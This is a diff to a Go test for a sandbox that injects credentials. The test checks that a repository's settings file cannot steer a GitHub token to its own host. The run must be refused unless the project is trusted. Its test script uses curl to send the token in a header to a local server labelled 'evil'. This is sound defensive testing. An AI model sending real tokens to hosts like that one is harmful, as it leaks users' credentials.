@@ -404,11 +404,14 @@ func tokenServer(t *testing.T) (hp string, seen func() string) {
 
 // TestTrustRepoDomainGetsNoToken: the user's own file (outside the
 // tree) masks a token and lets it be injected toward its allowedDomains;
-// a repository file only adds a domain. The token reaches the user's
-// host and never the repository's, which gets the sentinel; whichever
-// order the files come in, and also when the repository's file is a
-// symlink in the tree to a file outside (the repository chose its
-// target).
+// a repository file only adds a domain. Every host a test can start is
+// on loopback, which a repository's file may not name at all: the run is
+// refused whichever order the files come in, and neither host sees
+// anything; trusted, the repository's host becomes the user's and gets
+// the token (so the refusal is what kept it). That the domains of an
+// untrusted file get no injected token is policy's
+// TestUntrustedDomainsGetNoCredentials. A symlink in the tree to a file
+// outside is the tree's too (the repository chose its target).
 func TestTrustRepoDomainGetsNoToken(t *testing.T) {
 	curl := needTool(t, "curl")
 	const token = "ghp_realTOKEN0123456789abcdef"
@@ -423,25 +426,31 @@ func TestTrustRepoDomainGetsNoToken(t *testing.T) {
 	script := fmt.Sprintf(`%[1]s -s --max-time 10 -H "X-Token: $GITHUB_TOKEN" http://%[2]s/; %[1]s -s --max-time 10 -H "X-Token: $GITHUB_TOKEN" http://%[3]s/`, curl, good, evil)
 	for _, order := range [][]string{{"--settings", user, "--settings", repo}, {"--settings", repo, "--settings", user}} {
 		r := sh(t, runOpts{dir: d, env: env}, script, order...)
-		wantCode(t, r, 0)
+		wantCode(t, r, 125)
+		if !strings.Contains(r.stderr, repo) || !strings.Contains(r.stderr, "--trust-project-settings") {
+			t.Errorf("the refusal does not name the repository's file: %s", r)
+		}
 	}
-	if g := goodSeen(); strings.Count(g, token) != 2 {
-		t.Errorf("the user's host did not get the token (else this test proves nothing): %q", g)
+	if g, e := goodSeen(), evilSeen(); g != "" || e != "" {
+		t.Fatalf("a refused run sent something: %q %q", g, e)
 	}
-	if e := evilSeen(); strings.Contains(e, token) || strings.Count(e, "\n") != 1 {
-		t.Errorf("the repository's host saw %q", e)
+	r := sh(t, runOpts{dir: d, env: env}, script, "--trust-project-settings", "--settings", user, "--settings", repo)
+	wantCode(t, r, 0)
+	if g, e := goodSeen(), evilSeen(); !strings.Contains(g, token) || !strings.Contains(e, token) {
+		t.Errorf("trusted, both hosts are the user's and get the token: %q %q", g, e)
 	}
 	// A symlink in the tree to a file with the credentials: the tree's.
 	link := filepath.Join(d, "linked.json")
 	if err := os.Symlink(user, link); err != nil {
 		t.Fatal(err)
 	}
-	r := sh(t, runOpts{dir: d, env: env}, script, "--settings", link)
+	before := goodSeen()
+	r = sh(t, runOpts{dir: d, env: env}, script, "--settings", link)
 	wantCode(t, r, 125)
 	if !strings.Contains(r.stderr, link) {
 		t.Errorf("the refusal does not name the link: %s", r)
 	}
-	if g := goodSeen(); strings.Count(g, token) != 2 {
+	if g := goodSeen(); g != before {
 		t.Errorf("a refused run sent something: %q", g)
 	}
 }
